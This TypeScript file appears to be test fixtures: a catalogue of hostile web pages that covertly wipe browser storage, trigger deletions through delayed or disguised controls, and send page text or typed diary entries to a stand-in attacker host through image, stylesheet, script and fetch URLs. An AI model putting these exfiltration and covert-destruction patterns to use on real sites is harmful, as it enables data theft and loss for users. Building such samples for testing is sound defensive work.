/** DRIFTING_PAGES: hostile pages by everyday parts of apps whose act looks harmless: stores that are emptied in small steps, helpers at web addresses, text in addresses, late sending, marks in a body. */
import type { Single } from './kind';
import { BOX, control, next, on, request } from './single-parts';

const later = (body: (path: string) => string, afterMs = 900): Single => request(body, afterMs);
const elsewhere = (body: (to: string) => string, afterMs = 300): Single => ({
  by: 'browser',
  afterMs,
  body: ({ path, evil }) => body(`${evil}${path}`),
});
const api = (body: unknown, tail = '/api', method = 'POST'): Single =>
  request((path) =>
    next(
      `fetch('${path}${tail}', {method: '${method}', headers: {'content-type': 'application/json'}, body: ${JSON.stringify(JSON.stringify(body))}})`,
    ),
  );
const gone = (path: string) => `fetch('${path}/rows/7', {method: 'DELETE'})`;
const seen = (path: string) => `fetch('${path}/seen')`;
const worded = (inside: string, lang = 'en', attributes = '', tag = 'button'): Single =>
  control((hit) => `<p>7</p><${tag} data-it ${attributes}>${inside}</${tag}>${on('click', hit)}`, lang);

/** Sets up keys of the page's own store. */
const KEYS = "for (const key of ['a', 'b', 'c', 'd']) localStorage.setItem('note-' + key, 'Bread ' + key);";
const LIST =
  "localStorage.setItem('notes', JSON.stringify([1, 2, 3, 4].map((id) => ({id, text: 'Bread and butter ' + id}))));";
const noKeys = (path: string) =>
  `setTimeout(() => { if (!Object.keys(localStorage).some((key) => key.startsWith('note-'))) ${seen(path)}; }, 400);`;
/** Opens the page's own database with four rows as `db`. */
const ROWS = (name: string) =>
  `const ask = indexedDB.open('${name}', 1); ask.onupgradeneeded = () => ask.result.createObjectStore('notes', {keyPath: 'id'}); ask.onsuccess = () => { db = ask.result; const t = db.transaction('notes', 'readwrite').objectStore('notes'); for (const id of [1, 2, 3, 4]) t.put({id, text: 'Bread ' + id}); };`;
/** Tells once most rows have lost their text. */
const noRows = (path: string) =>
  `setTimeout(() => { const all = db.transaction('notes').objectStore('notes').getAll(); all.onsuccess = () => { if (all.result.filter((row) => row.text).length < 2) ${seen(path)}; }; }, 250);`;

/** Stores of the page that end up empty. */
const STORES: Readonly<Record<string, Single>> = {
  'a transaction for each row': later((path) =>
    next(
      `for (const id of [1, 2, 3, 4]) db.transaction('notes', 'readwrite').objectStore('notes').delete(id); ${noRows(path)}`,
      ROWS('shelf-a'),
    ),
  ),
  'rows overwritten with blanks': later((path) =>
    next(
      `const t = db.transaction('notes', 'readwrite').objectStore('notes'); for (const id of [1, 2, 3, 4]) t.put({id, text: ''}); ${noRows(path)}`,
      ROWS('shelf-b'),
    ),
  ),
  'newer version without the table': later((path) =>
    next(
      `db.close(); const up = indexedDB.open('shelf-c', 2); up.onupgradeneeded = () => { up.result.deleteObjectStore('notes'); }; up.onsuccess = () => { if (up.result.objectStoreNames.length === 0) ${seen(path)}; up.result.close(); indexedDB.deleteDatabase('shelf-c'); }`,
      ROWS('shelf-c'),
    ),
  ),
  'store kept in a variable': later((path) =>
    next(
      `for (const key of Object.keys(kept)) delete kept[key]; ${noKeys(path)}`,
      `const kept = localStorage; ${KEYS}`,
    ),
  ),
  'store kept and overwritten as a property': later((path) =>
    next(
      `kept.notes = '[]'; setTimeout(() => { if (localStorage.getItem('notes') === '[]') ${seen(path)}; }, 400)`,
      `const kept = localStorage; ${LIST}`,
    ),
  ),
  'method of the store kept from before': later((path) =>
    next(
      `for (const key of Object.keys(localStorage)) drop(key); ${noKeys(path)}`,
      `const drop = localStorage.removeItem.bind(localStorage); ${KEYS}`,
    ),
  ),
  'records overwritten with blanks': later((path) =>
    next(
      `localStorage.setItem('notes', JSON.stringify(JSON.parse(localStorage.notes).map(({id}) => ({id})))); if (!localStorage.notes.includes('Bread')) ${seen(path)}`,
      LIST,
    ),
  ),
  'store of a frame': later((path) =>
    next(
      `f.contentWindow.localStorage.clear(); ${noKeys(path)}`,
      `${KEYS} f = document.createElement('iframe'); document.body.append(f);`,
    ),
  ),
  'file cut to nothing': later((path) =>
    next(
      `(async () => { const w = await file.createWritable(); await w.truncate(0); await w.close(); if ((await file.getFile()).size === 0) ${seen(path)}; })()`,
      "(async () => { file = await (await navigator.storage.getDirectory()).getFileHandle('notes.txt', {create: true}); const w = await file.createWritable(); await w.write('Bread and butter'); await w.close(); })();",
    ),
  ),
};

/** Helpers whose code has a web address, and pages that hear of a press from afar. */
const HELPERS: Readonly<Record<string, Single>> = {
  'worker with an address': later((path) => next(`new Worker('/helper.js?to=${path}/r')`)),
  'worker with an address, told a number': later((path) =>
    next('w.postMessage(7)', `w = new Worker('/helper.js?wait=1&to=${path}/r')`),
  ),
  'shared worker with an address, told a word': later((path) =>
    next("w.port.postMessage('on')", `w = new SharedWorker('/hub.js?to=${path}/r'); w.port.start()`),
  ),
  'service worker with an address, told a sign': later((path) =>
    next(
      "reg.active?.postMessage('1')",
      `navigator.serviceWorker.register('/keeper.js?to=${path}/r', {scope: '/kept${path}/'}).then((r) => { reg = r })`,
    ),
  ),
  'worker that imports its code': later((path) =>
    next(
      `new Worker(URL.createObjectURL(new Blob(["importScripts('" + origin + "/helper.js?to=${path}/r')"], {type: 'text/javascript'})))`,
    ),
  ),
  'module worker that imports its code': later((path) =>
    next(
      `new Worker(URL.createObjectURL(new Blob(["import '" + origin + "/helper.js?to=${path}/r'"], {type: 'text/javascript'})), {type: 'module'})`,
    ),
  ),
  'page in a frame that hears a channel': later(
    (path) =>
      `<iframe width="90" height="40" src="/inbox?to=${path}/rows/7/delete"></iframe>${next("new BroadcastChannel('inbox').postMessage(1)")}`,
  ),
  'frame elsewhere that is turned by its fragment': {
    by: 'request',
    afterMs: 900,
    body: ({ path, evil }) =>
      `<iframe id="f" width="90" height="40" src="${evil}/turned?to=${encodeURIComponent(path)}/r"></iframe>${next("f.src = f.src.split('#')[0] + '#go'")}`,
  },
  'beacon kept from before': later((path) =>
    next(`send('${path}/rows/7/delete', '')`, 'const send = navigator.sendBeacon.bind(navigator)'),
  ),
  'stream of a socket': later((path) => next(`new WebSocketStream('ws://' + location.host + '${path}/rows/7/delete')`)),
};

/** Text of the page, or of a field, that leaves in an address. */
const LEAVING: Readonly<Record<string, Single>> = {
  'picture elsewhere with what is stored': elsewhere(
    (to) =>
      `<p>Anna owes Ben forty crowns and Clara twenty, to be paid by the first of May at the latest.</p>${next(`new Image().src = '${to}/p.gif?d=' + encodeURIComponent(btoa(document.body.innerText))`)}`,
  ),
  'sheet elsewhere with text in its path': elsewhere(
    (to) =>
      `<p>Anna owes Ben forty crowns and Clara twenty, to be paid by the first of May at the latest.</p>${next(`l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${to}/' + encodeURIComponent(document.querySelector('p').textContent) + '.css'; document.head.append(l)`)}`,
  ),
  'script elsewhere with text in parts': elsewhere(
    (to) =>
      `<p>Anna owes Ben forty crowns and Clara twenty, to be paid by the first of May at the latest.</p>${next(`document.querySelector('p').textContent.match(/.{1,45}/g).forEach((part, i) => { const s = document.createElement('script'); s.src = '${to}/' + i + '.js?v=' + encodeURIComponent(part); document.head.append(s) })`)}`,
  ),
  'stream elsewhere with text': elsewhere(
    (to) =>
      `<p>Anna owes Ben forty crowns and Clara twenty, to be paid by the first of May at the latest.</p>${next(`new EventSource('${to}/live?m=' + encodeURIComponent(document.body.innerText))`)}`,
  ),
  'request elsewhere without an answer': elsewhere(
    (to) =>
      `<p>Anna owes Ben forty crowns and Clara twenty, to be paid by the first of May at the latest.</p>${next(`fetch('${to}/ok?q=' + encodeURIComponent(document.querySelector('p').textContent), {mode: 'no-cors'})`)}`,
  ),
  'diary whose letters leave': elsewhere(
    (to) =>
      `<textarea aria-label="Diary" data-it>Saw the doctor about my knee again on Monday, and told no soul of it at work.</textarea>${on('input', `new Image().src = '${to}/k.gif?' + encodeURIComponent(event.target.value)`)}`,
  ),
};

/** Sent later than one would look. */
const LATE: Readonly<Record<string, Single>> = {
  'notice that can be undone for three seconds': later(
    (path) =>
      next(
        `document.body.insertAdjacentHTML('beforeend', '<p role="status">Tidied. <button>Undo</button></p>'); setTimeout(() => ${gone(path)}, 3000)`,
      ),
    3600,
  ),
  'queue that the page empties each three seconds': later(
    (path) => next("queue.push('x')", `queue = []; setInterval(() => { if (queue.pop()) ${gone(path)} }, 3000)`),
    3600,
  ),
  'resting on a card': later(
    (path) =>
      `<div tabindex="0" role="group" aria-label="Row 7" data-it ${BOX}>Row 7</div>${on('pointerenter', `setTimeout(() => ${gone(path)}, 600)`)}`,
  ),
  'frames of an animation that are counted': later(
    (path) =>
      next(
        `let n = 0; const tick = () => { if (++n < 100) return requestAnimationFrame(tick); ${gone(path)} }; tick()`,
      ),
    2300,
  ),
  'answer that the server holds back': later((path) => next(`fetch('/slow').then(() => ${gone(path)})`), 2600),
};

/** Parts of forms and elements. */
const PARTS: Readonly<Record<string, Single>> = {
  'element of a form that sends it': request(
    (path) =>
      `<form method="post" action="${path}/rows/7/delete"><x-part data-it tabindex="0" role="button" ${BOX}>Next</x-part></form><script>customElements.define('x-part', class extends HTMLElement { static formAssociated = true; constructor() { super(); const own = this.attachInternals(); this.addEventListener('click', () => own.form.requestSubmit()) } })</script>`,
  ),
  'form sent a frame later by another button': request(
    (path) =>
      `<form method="post" action="/benign"><label><input type="checkbox" data-it> Compact</label><button hidden formaction="${path}/account/close">x</button></form>${on('change', "const {form} = event.target; requestAnimationFrame(() => form.requestSubmit(form.querySelector('button')))")}`,
  ),
  'button that is given a form as it is pressed': request(
    (path) =>
      `<form id="q" method="post" action="${path}/rows/7/delete"></form><button type="button" data-it>Next</button>${on('pointerdown', "event.currentTarget.setAttribute('form', 'q'); event.currentTarget.type = 'submit'")}${on('mousedown', "event.currentTarget.setAttribute('form', 'q'); event.currentTarget.type = 'submit'")}`,
  ),
  'method changed as the form is sent': request(
    (path) => `<form action="${path}/rows/7/delete" onsubmit="this.method = 'post'"><button>Next</button></form>`,
  ),
  'reset that sends': request(
    (path) =>
      `<form id="q"><input aria-label="City"><button type="reset">Reset filters</button></form><script>q.onreset = () => ${gone(path)}</script>`,
  ),
  'field that is not valid': request(
    (path) =>
      `<form id="q"><input required aria-label="City"><button type="button" data-it>Next</button></form><script>q.elements[0].oninvalid = () => ${gone(path)}</script>${on('click', 'q.checkValidity()')}`,
  ),
  'form that is a script': request(
    (path) => `<form action="javascript:${gone(path).replaceAll('"', "'")};void 0"><button>Next</button></form>`,
  ),
  'letters of a closed root in place of its own': control(
    (hit) =>
      `<x-row data-it tabindex="0" role="button" ${BOX}>Next</x-row><script>customElements.define('x-row', class extends HTMLElement { connectedCallback() { this.attachShadow({mode: 'closed'}).innerHTML = '<style>slot{display:none}</style><slot></slot><b>Discard all</b>' } })</script>${on('click', hit)}`,
  ),
  'name by the internals of an element': control(
    (hit) =>
      `<x-do data-it tabindex="0" ${BOX}></x-do><script>customElements.define('x-do', class extends HTMLElement { constructor() { super(); const own = this.attachInternals(); own.role = 'button'; own.ariaLabel = 'Expunge' } })</script>${on('click', hit)}`,
  ),
  'text that goes out as it is typed': request(
    (path) =>
      `<div contenteditable="true" role="textbox" aria-label="Text" data-it style="min-height:30px"></div>${on('input', `fetch('${path}/posts/7', {method: 'PATCH', body: '{"status":"publish"}'})`)}`,
  ),
};

/** Code in attributes, and addresses of odd verbs. */
const WRITTEN: Readonly<Record<string, Single>> = {
  'method of an app': control(
    (hit) => `<script>app = {evict: () => { ${hit} }}</script><button onclick="app.evict()">Next</button>`,
  ),
  'method of a model': control(
    (hit) => `<script>vm = {rows: {nuke: () => { ${hit} }}}</script><button onclick="vm.rows.nuke(7)">Next</button>`,
  ),
  'method in brackets': control(
    (hit) =>
      `<script>app = {expel: () => { ${hit} }}</script><a href="#" onclick="app['expel'](7); return false">More</a>`,
  ),
  'odd action': api({ action: 'sunset', id: 7 }),
  'odd command': api({ cmd: 'quash', target: 'row-7' }),
  'odd field of a form': request(
    (path) =>
      `<form method="post" action="${path}/rows/7"><input type="hidden" name="action" value="relinquish"><button>Next</button></form>`,
  ),
  'link that writes off': request((path) => `<a href="${path}/invoices/7/write-off">Invoice 7</a>`),
  'link that voids': request((path) => `<a href="${path}/invoices/7/void">Invoice 7</a>`),
};

/** Marks on a thing that do away with it, show it to all or bind the person. */
const MARKED: Readonly<Record<string, Single>> = {
  'label of the bin': api({ addLabelIds: ['TRASH'], removeLabelIds: ['INBOX'] }, '/messages/7/modify'),
  'folder of the bin': api({ id: 7, folder: 'trash' }, '/messages/7', 'PATCH'),
  'list of members emptied': api({ members: [] }, '/teams/7', 'PATCH'),
  'no longer private': api({ private: false }, '/albums/7', 'PATCH'),
  'no longer a draft': api({ draft: false }, '/posts/7', 'PATCH'),
  'reader who is anyone': api({ kind: 'reader', type: 'anyone' }, '/files/7/acl'),
  'terms that are taken': api({ acceptTerms: true, version: 4 }, '/me', 'PATCH'),
  'time of its end': api({ expiresAt: '2001-01-01T00:00:00Z' }, '/shares/7', 'PATCH'),
};

/** Words and signs that no page here has had. */
const SAID: Readonly<Record<string, Single>> = {
  'Yoruba: delete': worded('Paarẹ', 'yo'),
  'Zulu: delete': worded('Susa', 'zu'),
  'Hausa: delete': worded('Goge', 'ha'),
  'Galician: unsubscribe': worded('Darse de baixa', 'gl'),
  'Faroese: delete': worded('Strika', 'fo'),
  'Nepali: pay': worded('तिर्नुहोस्', 'ne'),
  'Sinhala: send': worded('යවන්න', 'si'),
  'Belarusian: delete': worded('Выдаліць', 'be'),
  'sign of power': worded('⏻'),
  'sign of a ballot': worded('🗳️'),
  'sign of two hands': worded('🤝'),
  'toggle that says how it is': worded('Private', 'en', 'aria-pressed="false"'),
  'toggle that becomes an act': control(
    (hit) =>
      `<button data-it>Menu</button>${on('click', `if (event.currentTarget.textContent === 'Erase') { ${hit} } else event.currentTarget.textContent = 'Erase'`)}`,
  ),
  'choice of who may look': control(
    (hit) =>
      `<label>Who may look <select data-it><option>Only me</option><option>Anyone on the web</option></select></label>${on('change', hit, "event.target.value !== 'Only me'")}`,
  ),
  'choice of an end': control(
    (hit) =>
      `<label>Ticket <select data-it><option>Open</option><option>Won’t fix</option></select></label>${on('change', hit, "event.target.value !== 'Open'")}`,
  ),
  'several chosen, then applied': control(
    (hit) =>
      `<label><input type="checkbox" id="all"> Select all</label><select id="w" aria-label="With selected"><option>Keep</option><option>Retire</option></select><button data-it>Apply</button>${on('click', hit, "w.value === 'Retire' || document.getElementById('all').checked")}`,
  ),
  'invoice opened by a key': control(
    (hit) =>
      `<ul><li tabindex="0" role="listitem" data-it>Invoice 7: hold to settle</li></ul>${on('keydown', hit, "event.key === 'Enter'")}`,
  ),
};

export const DRIFTING_PAGES: Readonly<Record<string, Single>> = {
  ...STORES,
  ...HELPERS,
  ...LEAVING,
  ...LATE,
  ...PARTS,
  ...WRITTEN,
  ...MARKED,
  ...SAID,
};
